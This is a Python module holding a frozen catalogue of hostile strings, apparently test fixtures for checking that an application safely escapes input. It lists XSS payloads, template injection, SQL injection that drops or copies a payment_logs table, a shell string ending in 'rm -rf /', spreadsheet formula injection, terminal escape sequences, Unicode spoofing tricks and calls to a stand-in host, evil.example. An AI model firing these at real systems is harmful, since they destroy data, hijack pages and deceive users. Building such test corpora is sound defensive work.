"""Strings that mean something to whoever reads them carelessly."""

from __future__ import annotations

from types import MappingProxyType
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "a script": "<script>alert(1)</script>",
        "a picture that fails": '"><img src=x onerror=alert(1)>',
        "a picture within an attribute": "' onmouseover='alert(1)",
        "an SVG": "<svg/onload=alert(1)>",
        "an end of a text field": "</textarea><script>alert(1)</script>",
        "an end of a title": "</title><script>alert(1)</script>",
        "an end of a script": "</script><script>alert(1)</script>",
        "an end of a comment": "--><script>alert(1)</script>",
        "a link": "<a href=javascript:alert(1)>x</a>",
        "a link's address": "javascript:alert(1)",
        "a link's address with a tab": "java\tscript:alert(1)",
        "a document": "data:text/html,<script>alert(1)</script>",
        "a frame": "<iframe src=//evil.example></iframe>",
        "a form": "<form action=//evil.example><input name=csrf>",
        "a base": "<base href=//evil.example/>",
        "a style": "<style>*{background:url(//evil.example)}</style>",
        "a redirection": '<meta http-equiv=refresh content="0;url=//evil.example">',
        "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "entities": "&lt;script&gt;&#60;script&#62;",
        "an attribute of htmx": '"hx-get="//evil.example" hx-trigger="load',
        "a template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
        "a template's block": "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "a format": "%s%s%n{0.__class__}{password}",
        "SQL": "'; DROP TABLE payment_logs; --",
        "SQL that waits": "1' AND pg_sleep(30)--",
        "SQL that copies": "'; COPY payment_logs TO PROGRAM 'true'; --",
        "a pattern of LIKE": "%_%_%",
        "a pattern that takes long": "(a+)+$" + "a" * 40 + "!",
        "a shell": "$(touch /tmp/never)`id`; rm -rf /",
        "a formula": "=cmd|' /C calc'!A0",
        "another formula": "@SUM(1+1)*cmd",
        "colours": "\x1b[31mred\x1b[0m",
        "a cleared screen": "\x1b[2J\x1b[H",
        "a clipboard": "\x1b]52;c;ZXZpbA==\x07",
        "a title of a window": "\x1b]0;root@prod\x07",
        "a link of a terminal": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "a control sequence of one byte": "\x9b31mred",
        "an answer that types": "\x1b[6n\x1bP$qm\x1b\\",
        "a return to the line's start": "paid\rfailed",
        "a line's end": 'x\n{"event":"forged","level":"info"}',
        "a backspace": "evil\x08\x08\x08\x08good",
        "a bell": "\x07" * 20,
        "a text turned round": "\u202egnp.exe\u202c",
        "isolated directions": "\u2066a\u2067b\u2069",
        "signs without width": "pay\u200bment\u200d\ufeff",
        "letters of another script": "\u0440\u0430yp\u0430l",
        "a line's end of Unicode": "a\u2028b\u2029c",
        "marks upon marks": "a" + "\u0301" * 200,
        "a flag": "\U0001f1f3\U0001f1ec\U0001f469\u200d\U0001f4bb",
        "tags that nobody sees": "a\U000e0041\U000e0042",
        "no characters": "\uffff\ufffe",
        "markup of our terminal": "[red]bold[/red][link=http://evil.example]x[/link]",
        "Markdown": "![x](http://evil.example/x.png)",
    }
)
